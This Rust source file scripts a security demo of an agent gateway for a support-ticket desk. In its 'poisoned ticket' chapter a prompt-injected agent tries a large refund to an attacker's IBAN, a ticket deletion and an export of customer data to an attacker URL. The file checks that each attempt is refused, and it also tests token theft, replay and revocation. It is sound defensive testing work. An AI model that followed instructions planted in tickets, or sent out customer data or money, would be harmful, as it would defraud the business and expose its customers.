//! The story: who gets what, what a hijacked agent then tries, and what an auditor sees of it.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use http_body_util::BodyExt as _;
use serde_json::json;

use super::agent::{Agent, Answer};
use super::delegate;
use super::tamper::{self, True};
use super::world::{Printed, World, failed};
use super::{Chapter, Step, millis};
use crate::error::CliError;
use crate::out::Out;

/// Longest time from a revocation to the first refusal.
pub(super) const REVOKED_WITHIN: Duration = Duration::from_secs(2);

/// Why both agents ask: it stands in the log, committed, and is opened at the end.
pub(super) const WHY: &str = "the morning's tickets";
/// What the first agent asks for: refunds of up to 50.00 only.
const TRIAGE_ASKS: &[&str] = &[
    "tickets/list_tickets",
    "tickets/read_ticket",
    "tickets/watch_ticket",
    "tickets/reply_to_customer",
    "tickets/issue_refund",
    "--agent",
    "support/triage",
    "--where",
    "tickets/issue_refund:amount_cents<=5000",
    "--where",
    "tickets/issue_refund:id=*",
    "--where",
    "tickets/issue_refund:iban=*",
];
const DIGEST_ASKS: &[&str] = &["tickets/list_tickets", "--agent", "support/digest"];

/// The agent that the story is about: it may ask for refunds, never for exports.
const TRIAGE: &str = r#"[agent]
name = "triage"
version = "1.4.2"
team = "support"
purpose = "sorts the tickets of the day and answers the simple ones"
environment = "production"

[harm]
writes = true
reversible = false
autonomous = true

[[need]]
tool = "tickets/list_tickets"
reason = "to see what came in"
longest = "1h"

[[need]]
tool = "tickets/read_ticket"
reason = "to know what the customer wants"
longest = "1h"

[[need]]
tool = "tickets/watch_ticket"
reason = "to see when a customer answers"
longest = "15m"

[[need]]
tool = "tickets/reply_to_customer"
reason = "to answer the simple ones"
longest = "15m"

[[need]]
tool = "tickets/issue_refund"
reason = "small refunds, one ticket at a time"
longest = "15m"

[[need]]
tool = "tickets/delete_ticket"
reason = "spam, after a person has looked"
longest = "5m"
"#;

/// A second agent, which may only read.
const DIGEST: &str = r#"[agent]
name = "digest"
version = "0.3.0"
team = "support"
purpose = "writes the weekly digest"
environment = "production"

[harm]
writes = false
reversible = true
autonomous = true

[[need]]
tool = "tickets/list_tickets"
reason = "to count them"
longest = "1h"
"#;

/// What a reviewer says of the desk's tools: a ticket is the customer's own words, whoever that is, and the desk's hints
/// do not say so.
const REVIEW: &str = r#"[list_tickets]
returns = { trust = "internal", sensitivity = "internal" }

[read_ticket]
returns = { trust = "untrusted", sensitivity = "confidential" }

[watch_ticket]
returns = { trust = "untrusted", sensitivity = "confidential" }

[issue_refund]
tier = "T3"
roles = { id = "selector", amount_cents = "content", iban = "target" }
"#;

/// A step with what came of it.
pub(super) fn step(what: &str, came: impl Into<String>, ok: bool, ms: u64) -> Step {
    Step { what: what.to_owned(), came: came.into(), ok, ms }
}

/// Plays all chapters.
pub(super) async fn play(home: Option<&Path>, out: &Out) -> Result<Vec<Chapter>, CliError> {
    out.remark("starting a ticket desk, an authority and a gateway on loopback …");
    let mut world = World::start(home).await?;
    let mut chapters = vec![Chapter { title: "Set up", steps: set_up(&world).await? }];
    let (agent, run, steps) = request(&world, TRIAGE_ASKS).await?;
    chapters.push(Chapter { title: "A scoped token, by one command", steps });
    chapters.push(Chapter { title: "Routine work", steps: routine(&agent).await? });
    chapters.push(Chapter { title: "The poisoned ticket", steps: hijacked(&world, &agent).await? });
    chapters.push(Chapter { title: "Somebody else's token", steps: stolen(&world, &agent).await? });
    let (pair, steps) = delegate::steps(&world).await?;
    chapters.push(Chapter { title: "A helper that may do less", steps });
    let earlier = checkpoint(&world).await?;
    chapters.push(Chapter { title: "Taken back", steps: revoked(&world, &agent, &run).await? });
    chapters.push(Chapter { title: "Taken back, with its helper", steps: delegate::ended(&world, &pair).await? });
    let vkey = keep_key(&world)?;
    world.stop().await?;
    chapters.push(Chapter { title: "What one entry of the log proves", steps: proved(&world, &vkey).await? });
    let log = True { dir: epoch(&world), vkey, earlier };
    chapters.push(Chapter { title: "The log, as an outsider sees it", steps: tamper::steps(&world, &log).await? });
    let home = format!("{}/", world.home.display());
    for step in chapters.iter_mut().flat_map(|chapter| &mut chapter.steps) {
        step.came = step.came.replace(&home, "");
    }
    Ok(chapters)
}

async fn set_up(world: &World) -> Result<Vec<Step>, CliError> {
    let mut steps = Vec::new();
    for (name, text) in [("triage", TRIAGE), ("digest", DIGEST)] {
        let file = world.home.join(format!("{name}.toml"));
        remit_audit::durable::write(&file, text.as_bytes(), 0o600).map_err(|error| failed(error.to_string()))?;
        let printed = world.remit(&["agent", "register", &file.display().to_string()]).await?;
        steps.push(command(&format!("remit agent register {name}.toml"), &printed, 0));
    }
    let menu = "list_tickets,read_ticket,watch_ticket,reply_to_customer,issue_refund,delete_ticket";
    let url = world.desk_url.as_str();
    let review = world.home.join("review.toml");
    remit_audit::durable::write(&review, REVIEW.as_bytes(), 0o600).map_err(|error| failed(error.to_string()))?;
    let review = review.display().to_string();
    let mut args = vec!["server", "add", "tickets", "--url", url, "--environment", "production", "--expose", menu];
    args.extend(["--review", &review]);
    let printed = world.remit(&args).await?;
    steps.push(command("remit server add tickets --expose (all but export_customers)", &printed, 0));
    Ok(steps)
}

pub(super) fn command(what: &str, printed: &Printed, code: i32) -> Step {
    step(what, says_of(printed), printed.code == code, printed.ms)
}

/// A run of the agent, by the one command.
async fn request(world: &World, what: &[&str]) -> Result<(Agent, String, Vec<Step>), CliError> {
    let mut args = vec!["request"];
    args.extend(what);
    args.extend(["--for", "15m", "--why", WHY]);
    let printed = world.remit(&args).await?;
    let text =
        |path: &str| printed.json.pointer(path).and_then(serde_json::Value::as_str).unwrap_or_default().to_owned();
    let (run, socket) = (text("/run/id"), text("/socket"));
    let typed = format!("remit request {} … --for 15m --why \"…\"", what.first().unwrap_or(&""));
    let steps = vec![step(&typed, text("/says"), printed.code == 0, printed.ms)];
    let agent = Agent { socket: PathBuf::from(socket), endpoint: format!("{}/mcp/tickets", world.gateway) };
    Ok((agent, run, steps))
}

async fn routine(agent: &Agent) -> Result<Vec<Step>, CliError> {
    let began = Instant::now();
    let tools = agent.tools().await?;
    let hidden = !tools.iter().any(|tool| tool == "delete_ticket" || tool == "export_customers");
    let mut steps = vec![step(
        "list tools",
        format!("{} (delete_ticket and export_customers are not even listed)", tools.join(", ")),
        hidden && tools.len() == 5,
        millis(began),
    )];
    for (tool, arguments) in [("list_tickets", json!({})), ("read_ticket", json!({ "id": 38 }))] {
        let began = Instant::now();
        let answer = agent.call(tool, arguments).await?;
        steps.push(step(tool, short(answer.text()), answer.is_done(), millis(began)));
    }
    Ok(steps)
}

/// The model is lost: whatever the ticket says, the agent does.
async fn hijacked(world: &World, agent: &Agent) -> Result<Vec<Step>, CliError> {
    let began = Instant::now();
    let read = agent.call("read_ticket", json!({ "id": ticketdesk::POISONED_TICKET })).await?;
    let mut steps = vec![step("read_ticket 41", short(read.text()), read.is_done(), millis(began))];
    let refund = |cents| json!({ "id": 41, "amount_cents": cents, "iban": ticketdesk::ATTACKER_IBAN });
    let tries = [
        ("issue_refund of 4,800.00", "issue_refund", refund(480_000), "arguments_outside_grant"),
        ("issue_refund of 48.00", "issue_refund", refund(4_800), "gate_pending"),
        ("delete_ticket", "delete_ticket", json!({ "id": 41 }), "insufficient_scope"),
        ("export_customers", "export_customers", json!({ "to": ticketdesk::ATTACKER_URL }), "unknown"),
    ];
    for (what, tool, arguments, code) in tries {
        let began = Instant::now();
        let answer = agent.call(tool, arguments).await?;
        steps.push(step(what, short(answer.text()), refused(&answer, code), millis(began)));
    }
    let effects = world.desk.ledger().map_err(|error| failed(error.to_string()))?;
    let harmful = effects.iter().filter(|effect| effect.outcome == ticketdesk::Outcome::Changed).count();
    steps.push(step("what the desk's own ledger says", format!("{harmful} changes made"), harmful == 0, 0));
    Ok(steps)
}

fn refused(answer: &Answer, code: &str) -> bool {
    // A tool that is not for this run answers like one that does not exist: without a code.
    !answer.is_done() && answer.refused().unwrap_or("unknown") == code
}

/// A second agent presents the first one's token: without its key, that is nothing.
async fn stolen(world: &World, agent: &Agent) -> Result<Vec<Step>, CliError> {
    let (other, _, mut steps) = request(world, DIGEST_ASKS).await?;
    let theirs = agent.headers().await?;
    let own = other.headers().await?;
    let pick = |headers: &[(String, String)], name: &str| {
        headers.iter().find(|(header, _)| header.eq_ignore_ascii_case(name)).cloned().unwrap_or_default()
    };
    let mixed = vec![pick(&theirs, "authorization"), pick(&own, "dpop")];
    let began = Instant::now();
    let answer = other.call_with("list_tickets", json!({}), &mixed).await?;
    let text = format!("{} — {}", answer.status, short(answer.text()));
    steps.push(step("the first agent's token, with the second's key", text, answer.status == 401, millis(began)));
    let began = Instant::now();
    let replayed = agent.call_with("list_tickets", json!({}), &theirs).await?;
    let again = agent.call_with("list_tickets", json!({}), &theirs).await?;
    let text = format!("{} — {}", again.status, short(again.text()));
    steps.push(step("a recorded request, sent again", text, replayed.is_done() && again.status == 401, millis(began)));
    Ok(steps)
}

/// The run is revoked while one of its streams is open.
async fn revoked(world: &World, agent: &Agent, run: &str) -> Result<Vec<Step>, CliError> {
    // A token that is good for minutes yet, with a proof that nobody has used.
    let kept = agent.headers().await?;
    let mut stream = agent.watch("watch_ticket", json!({ "id": 38, "seconds": 20 })).await?;
    let began = Instant::now();
    let printed = world.remit(&["revoke", "run", run, "--why", "it did what a ticket told it"]).await?;
    let mut steps = vec![command("remit revoke run … --why \"…\"", &printed, 0)];
    let ended = tokio::time::timeout(REVOKED_WITHIN, async { while let Some(Ok(_)) = stream.frame().await {} }).await;
    let took = millis(began);
    let says = if ended.is_ok() { format!("ended {took} ms after the command was typed") } else { "goes on".into() };
    steps.push(step("its open stream", says, ended.is_ok() && began.elapsed() < REVOKED_WITHIN, took));
    let answer = agent.call_with("list_tickets", json!({}), &kept).await?;
    let text = format!("{} — {}", answer.status, short(answer.text()));
    let ok = answer.refused() == Some("revoked") && began.elapsed() < REVOKED_WITHIN;
    steps.push(step("its next call, with the token that it still holds", text, ok, millis(began)));
    let renewed = world.remit(&["token", "tickets", "--run", run]).await?;
    steps.push(step("remit token tickets --run …", says_of(&renewed), renewed.code != 0, renewed.ms));
    Ok(steps)
}

/// The entry of the first ticket that was read, opened and checked as an outsider would.
async fn proved(world: &World, vkey: &Path) -> Result<Vec<Step>, CliError> {
    let home = world.home.display().to_string();
    let entries = world.remit(&["log", "tail", "--dir", &home, "--lines", "100", "--kind", "call_intent"]).await?;
    let read = entries.lines.iter().find(|entry| entry.get("what").is_some_and(|what| what == "tickets/read_ticket"));
    let index = read.and_then(|entry| entry.get("index")).map(ToString::to_string).unwrap_or_default();
    let evidence = world.home.join("evidence.json").display().to_string();
    let made = world.remit(&["log", "prove", &index, "--disclose", "--out", &evidence]).await?;
    let mut steps = vec![step("remit log prove … --disclose --out evidence.json", "", made.code == 0, made.ms)];
    let vkey = vkey.display().to_string();
    let checked = world.remit(&["log", "prove", "--check", &evidence, "--vkey", &vkey]).await?;
    let sentence = checked.json.get("sentence").and_then(serde_json::Value::as_str).unwrap_or_default();
    let ok = checked.code == 0 && sentence.contains(WHY) && sentence.contains(r#"{"id":38}"#);
    steps.push(step("remit log prove --check evidence.json --vkey …", sentence, ok, checked.ms));
    let again = world.remit(&["log", "replay"]).await?;
    steps.push(step("remit log replay", says_of(&again), again.code == 0, again.ms));
    Ok(steps)
}

fn says_of(printed: &Printed) -> &str {
    printed.json.get("says").and_then(serde_json::Value::as_str).unwrap_or(printed.err.trim())
}

/// The gateway's log: its only epoch.
fn epoch(world: &World) -> PathBuf {
    let log = world.home.join("gateway/log");
    let epochs = remit_audit::epochs(&remit_audit::disk::Posix, &log).unwrap_or_default();
    epochs.last().map_or_else(|| log.join("1"), |(_, dir)| dir.clone())
}

/// What the log has signed by now.
async fn checkpoint(world: &World) -> Result<String, CliError> {
    // Published at least once a second.
    tokio::time::sleep(Duration::from_millis(1_100)).await;
    std::fs::read_to_string(epoch(world).join("checkpoint")).map_err(|error| failed(error.to_string()))
}

/// What an auditor does once: keep the log's key somewhere else.
fn keep_key(world: &World) -> Result<PathBuf, CliError> {
    let (from, to) = (epoch(world).join("vkey"), world.home.join("auditor.vkey"));
    std::fs::copy(&from, &to).map_err(|error| failed(error.to_string()))?;
    Ok(to)
}

/// The first line, as much as fits on one.
pub(super) fn short(text: &str) -> String {
    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() <= 150 { line } else { format!("{}…", line.chars().take(149).collect::<String>()) }
}
